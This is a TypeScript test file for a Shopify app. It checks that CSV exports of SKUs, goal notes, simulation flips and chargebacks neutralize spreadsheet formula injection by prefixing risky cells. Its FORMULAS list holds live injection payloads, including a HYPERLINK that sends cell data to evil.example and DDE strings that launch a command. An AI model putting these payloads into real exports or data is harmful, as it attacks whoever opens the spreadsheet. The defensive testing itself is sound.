import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, expect } from 'vitest';
import type { SimulationReport } from '../engine/index.ts';
import type { OrderRecord, ReturnRecord } from '../sdk/index.ts';
import { startTestApp, type TestApp } from '../server/testing/testApp.ts';
import { hostileCase } from './hostileCase.ts';

/**
 * Formula injection through the CSV exports (issue 19, "CSV exports write formulas raw"): text a
 * merchant, a customer or a webhook put in a SKU, a title, a goal note, a simulation flip or a
 * chargeback reaches a spreadsheet. A text cell starting with =, +, -, @, tab or carriage return
 * must come out prefixed with ' (OWASP); numbers stay numbers.
 */
const SHOP = 'hostile-csv.myshopify.com';
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1'];
let app: TestApp;
let counter = 0;

async function csv(url: string): Promise<Record<string, string>[]> {
  const response = await app.server.inject({ method: 'GET', url, headers: { authorization: `Bearer ${await app.sessionToken(SHOP)}` } });
  expect(response.statusCode, `${url}: ${response.payload}`).toBe(200);
  return parse(response.payload, { columns: true, relax_quotes: true }) as Record<string, string>[];
}

/** OWASP's leading characters of a formula. */
const LEAD = /^[=+\-@\t\r]/;
/** A cell as it must come out of an export: a formula-leading text prefixed with '. */
const neutralized = (text: string) => (LEAD.test(text) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(text) ? `'${text}` : text);

/** Stores a returned line with this SKU and title (through the store: no webhook needed). */
async function storeReturnedSku(sku: string, title: string): Promise<void> {
  const n = ++counter;
  const at = new Date(Date.now() - 86_400_000).toISOString();
  const order: OrderRecord = {
    id: `gid://shopify/Order/${8_000 + n}`, customerId: `gid://shopify/Customer/${8_000 + n}`, createdAt: at, currency: 'USD', totalPrice: 1, subtotalPrice: 1, totalDiscounts: 0,
    discountCodes: [], gateways: ['manual'], shippingLines: [], identity: {}, tags: [],
    lineItems: [{ id: `gid://shopify/LineItem/${8_000 + n}`, sku, title, quantity: 1, price: 1, totalDiscount: 0 }],
  };
  const ret: ReturnRecord = { id: `gid://shopify/Return/${8_000 + n}`, orderId: order.id, status: 'CLOSED', createdAt: at, exchangeLineItemCount: 0, totalValue: 1, lineItems: [{ lineItemId: order.lineItems[0]!.id, sku, quantity: 1000 + n }] };
  await app.stores.events.upsertAll(SHOP, [{ type: 'order', order }, { type: 'return', return: ret }]);
}

async function addGoal(note: string): Promise<void> {
  const response = await app.server.inject({
    method: 'POST', url: '/api/goals', headers: { authorization: `Bearer ${await app.sessionToken(SHOP)}` },
    payload: { metric: 'chargebacks', reduceByPct: 10, startsOn: '2026-01-01', endsOn: '2026-06-01', note },
  });
  expect(response.statusCode, response.payload).toBe(201);
}

beforeAll(async () => {
  app = await startTestApp();
  await app.installShop(SHOP);
}, 60_000);
afterAll(async () => {
  await app?.stop();
});

hostileCase('csv-exports', 'a formula in a returned SKU and its title comes out of skus.csv prefixed with \' (issue 19)', async (attempts) => {
  for (const formula of FORMULAS) await storeReturnedSku(formula, formula);
  const rows = await csv('/api/analytics/skus.csv');
  for (const formula of FORMULAS) {
    attempts.tried();
    const row = rows.find((r) => r.sku === neutralized(formula));
    expect(row, `${JSON.stringify(formula)} in ${JSON.stringify(rows.map((r) => r.sku))}`).toBeDefined();
    expect(row!.title).toBe(neutralized(formula));
  }
});

hostileCase('csv-exports', 'a formula in a goal note comes out of goals.csv prefixed with \' (issue 19)', async (attempts) => {
  for (const formula of FORMULAS) await addGoal(formula);
  const notes = (await csv('/api/analytics/goals.csv')).map((r) => r.note);
  for (const formula of FORMULAS) {
    attempts.tried();
    expect(notes).toContain(`'${formula}`);
  }
});

hostileCase('csv-exports', 'formulas in a simulation flip come out of flips.csv prefixed, negative scores as numbers (issue 19)', async (attempts) => {
  const sim = await app.stores.simulations.create({ shop_id: SHOP, version: 1, against_version: 1, window_from: new Date('2026-01-01'), window_to: new Date('2026-02-01'), created_by: 'hostile' });
  const flips = FORMULAS.map((formula, i) => ({ subjectId: formula, kind: 'order', at: '2026-01-05T00:00:00Z', customerId: formula, before: { score: -5 - i, zone: 'low' }, after: { score: 70, zone: 'high' }, label: formula, immature: false }));
  await app.stores.simulations.finish(sim.id, { flips } as unknown as SimulationReport, 1);
  const rows = await csv(`/api/simulations/${sim.id}/flips.csv`);
  FORMULAS.forEach((formula, i) => {
    attempts.tried();
    expect(rows[i]).toMatchObject({ subject: `'${formula}`, customer: `'${formula}`, label: `'${formula}`, score_before: String(-5 - i) });
  });
});

hostileCase('csv-exports', 'a formula in a stored chargeback comes out of every chargeback table prefixed (issue 19)', async (attempts) => {
  const at = new Date(Date.now() - 86_400_000).toISOString();
  for (const [i, formula] of FORMULAS.entries()) {
    await app.stores.events.upsert(SHOP, { type: 'chargeback', chargeback: { id: `gid://shopify/ShopifyPaymentsDispute/${9_000 + i}`, orderId: formula, initiatedAt: at, amount: 10, reason: formula, status: formula } });
  }
  const orders = (await csv('/api/chargebacks/disputes.csv')).map((r) => r.order);
  for (const formula of FORMULAS) {
    attempts.tried();
    expect(orders).toContain(`'${formula}`);
  }
  for (const table of ['repeat-offenders', 'double-dips', 'unshipped', 'by-month']) {
    attempts.tried();
    for (const row of await csv(`/api/chargebacks/${table}.csv`)) for (const cell of Object.values(row)) expect(cell, `${table}: ${cell}`).not.toMatch(/^[=+@\t\r]/);
  }
});

hostileCase('csv-exports', 'generated SKUs, titles and goal notes: no cell of any export starts a formula', async (attempts) => {
  // Text a formula could hide in: OWASP's leads, then anything (quotes, separators, newlines, unicode).
  const text = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '', ' ', "'", '"'), fc.string({ maxLength: 25, unit: 'grapheme' })).map(([lead, rest]) => `${lead}${rest}`.replace(/\u0000/g, ''));
  await fc.assert(
    fc.asyncProperty(text, text, text, async (sku, title, note) => {
      attempts.tried();
      const unique = `${sku}#${counter + 1}`; // its own row, whatever SKUs came before
      await storeReturnedSku(unique, title);
      await addGoal(note.slice(0, 500));
      for (const url of ['/api/analytics/skus.csv', '/api/analytics/goals.csv']) {
        for (const row of await csv(url)) {
          for (const [column, cell] of Object.entries(row)) {
            if (LEAD.test(cell)) expect(/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell), `${url} ${column}: ${JSON.stringify(cell)}`).toBe(true);
          }
        }
      }
      const skus = await csv('/api/analytics/skus.csv');
      // The SKU's own row (returned the most units so far) carries it neutralized, not dropped or mangled.
      expect(skus[0]!.sku).toBe(neutralized(unique));
      expect(skus[0]!.title).toBe(neutralized(title));
    }),
    { numRuns: 40, seed: Number(process.env.HOSTILE_SEED ?? Date.now() % 2 ** 31), endOnFailure: true },
  );
}, 120_000);
